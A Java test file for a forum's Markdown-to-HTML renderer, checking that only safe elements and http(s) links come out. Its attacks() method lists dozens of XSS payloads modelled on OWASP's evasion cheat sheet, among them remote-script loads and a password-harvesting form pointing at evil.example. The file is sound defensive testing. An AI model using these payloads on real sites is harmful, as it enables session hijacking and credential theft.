package org.readout.discussion;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Set;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.constraints.Chars;
import net.jqwik.api.constraints.StringLength;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class PostMarkdownTest {

    private static final Set<String> ELEMENTS = Set.of("p", "br", "em", "strong", "ul", "ol", "li", "blockquote", "a");

    @Test
    void paragraphs_emphasis_lists_quotations_and_links_are_kept() {
        assertThat(PostMarkdown.html("""
                        It *may* be **so**.
                        Next line.

                        > A quotation

                        - one
                        - two

                        3. three

                        See [the treaty](https://example.org/treaty?a=1&b=2).""")).isEqualToIgnoringWhitespace("""
                        <p>It <em>may</em> be <strong>so</strong>.<br />Next line.</p>
                        <blockquote><p>A quotation</p></blockquote>
                        <ul><li>one</li><li>two</li></ul>
                        <ol start="3"><li>three</li></ol>
                        <p>See <a href="https://example.org/treaty?a&#61;1&amp;b&#61;2" rel="nofollow noopener ugc">the treaty</a>.</p>""");
    }

    @ParameterizedTest
    @ValueSource(strings = {"# Heading", "    indented()", "```\ncode\n```", "<b>bold</b>", "---", "Title\n====="})
    void headings_code_blocks_rules_and_html_stay_the_text_that_was_typed(String markdown) {
        Element page = Jsoup.parseBodyFragment(PostMarkdown.html(markdown)).body();
        assertThat(page.text()).isEqualToIgnoringWhitespace(markdown.replace("```\ncode\n```", "code"));
        assertThat(page.select("h1, h2, pre, code, b, hr")).isEmpty();
    }

    @ParameterizedTest
    @CsvSource({
        "![a map](https://example.org/map.png), a map",
        "![](https://example.org/map.png), https://example.org/map.png",
    })
    void a_picture_becomes_a_link_to_it(String markdown, String text) {
        Element page = Jsoup.parseBodyFragment(PostMarkdown.html(markdown)).body();
        assertThat(page.select("img")).isEmpty();
        assertThat(page.select("a[href=https://example.org/map.png]").text()).isEqualTo(text);
    }

    @Test
    void a_picture_in_a_link_leaves_one_link() {
        Element page = Jsoup.parseBodyFragment(PostMarkdown.html("[![a map](https://e.org/m.png)](https://e.org)"))
                .body();
        assertThat(page.select("a")).hasSize(1);
        assertThat(page.select("a").attr("href")).isEqualTo("https://e.org");
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void no_attack_of_the_corpus_leaves_anything_but_the_allowed_elements(String attack) {
        assertHarmless(PostMarkdown.html(attack));
    }

    /** After OWASP's filter evasion cheat sheet and what is known to have broken Markdown renderers. */
    static String[] attacks() {
        return new String[] {
            "<script>alert(1)</script>",
            "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<svg><script>alert&#40;1)</script></svg>",
            "<iframe src=javascript:alert(1)></iframe>",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
            "<body onload=alert(1)>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"https://ok.example\" onclick=\"alert(1)\">x</a>",
            "<math><mtext></p><style><a title=\"</style><img src onerror=alert(1)>\">",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<style>@import 'https://evil.example/x.css';</style>",
            "<div style=\"background:url(javascript:alert(1))\">x</div>",
            "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
            "<base href=https://evil.example/>",
            "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
            "<object data=javascript:alert(1)></object>",
            "<embed src=javascript:alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<video><source onerror=alert(1)></video>",
            "<!--><img src=x onerror=alert(1)>-->",
            "<![CDATA[<img src=x onerror=alert(1)>]]>",
            "<?php echo '<script>alert(1)</script>' ?>",
            "<template><script>alert(1)</script></template>",
            "<x onfocus=alert(1) tabindex=1 autofocus>",
            "<p id=ROOT-2521314 class=stance name=attributes>clobber</p>",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](java&#x0A;script:alert(1))",
            "[x](&#106;avascript:alert(1))",
            "[x](\u0001javascript:alert(1))",
            "[x](javascript&colon;alert(1))",
            "[x](vbscript:msgbox(1))",
            "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[x](file:///etc/passwd)",
            "[x](//evil.example)",
            "[x](/sign-out)",
            "[x](#top)",
            "[x](mailto:someone@example.org)",
            "[x](blob:https://evil.example/1)",
            "[x](https://ok.example/\" onmouseover=\"alert(1))",
            "[x](https://ok.example \"t\\\" onmouseover=\\\"alert(1)\")",
            "[x](<https://ok.example/><img src=x onerror=alert(1)>>)",
            "<javascript:alert(1)>",
            "<https://ok.example/\"onmouseover=alert(1)>",
            "[x]: javascript:alert(1)\n\n[x]",
            "[<img src=x onerror=alert(1)>](https://ok.example)",
            "![x](javascript:alert(1))",
            "![x\" onerror=\"alert(1)](https://ok.example/a.png)",
            "![](x \"onerror=alert(1)\")",
            "*<b onmouseover=alert(1)>x</b>*",
            "> <script>alert(1)</script>",
            "- <img src=x onerror=alert(1)>",
            "`<script>alert(1)</script>`",
            "```html\"onmouseover=alert(1)\n<script>alert(1)</script>\n```",
            "    <script>alert(1)</script>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "\\<script>alert(1)\\</script>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<a\u0000 href=javascript:alert(1)>x</a>",
            "\u202e<script>alert(1)</script>",
            "{{constructor.constructor('alert(1)')()}}",
        };
    }

    @ParameterizedTest
    @ValueSource(strings = {">", "- ", "1. ", "*a ", "**a _b ", "[", "![", "](", "`", "<", "\\", "[a](", "&#", "*_"})
    void a_post_of_nothing_but_signs_is_rendered_and_harmless(String sign) {
        assertHarmless(PostMarkdown.html(sign.repeat(Post.MAX_CHARACTERS / sign.length())));
    }

    @Test
    void emphasis_that_nests_as_deep_as_a_post_is_long_stays_as_typed() {
        String deep = "*a ".repeat(3_000) + "b" + " a*".repeat(3_000);
        assertThat(Jsoup.parseBodyFragment(PostMarkdown.html(deep)).text()).isEqualToIgnoringWhitespace(deep);
    }

    @Property(tries = 1000)
    void whatever_is_typed_gives_only_allowed_elements(
            @ForAll
                    @Chars({
                        '<', '>', '"', '\'', '[', ']', '(', ')', '!', '*', '_', '`', '&', ';', ':', '/', '\\', '\n',
                        ' ', '#', '-', 'a', 'j', '=', 'x', '1', '.', '\u0000'
                    })
                    @StringLength(max = 120)
                    String markdown) {
        assertHarmless(PostMarkdown.html(markdown));
    }

    private static void assertHarmless(String html) {
        for (Element element : Jsoup.parseBodyFragment(html).body().select("body > *, body > * *")) {
            assertThat(ELEMENTS).contains(element.normalName());
            for (Attribute attribute : element.attributes()) {
                switch (element.normalName() + "@" + attribute.getKey()) {
                    case "a@href" -> assertThat(attribute.getValue()).matches("(?i)https?://\\S+");
                    case "a@rel" -> assertThat(attribute.getValue()).isEqualTo("nofollow noopener ugc");
                    case "ol@start" -> assertThat(attribute.getValue()).containsOnlyDigits();
                    default -> throw new AssertionError("not allowed: " + element);
                }
            }
            assertThat(element.normalName().equals("a") && !element.hasAttr("rel"))
                    .isFalse();
        }
    }
}
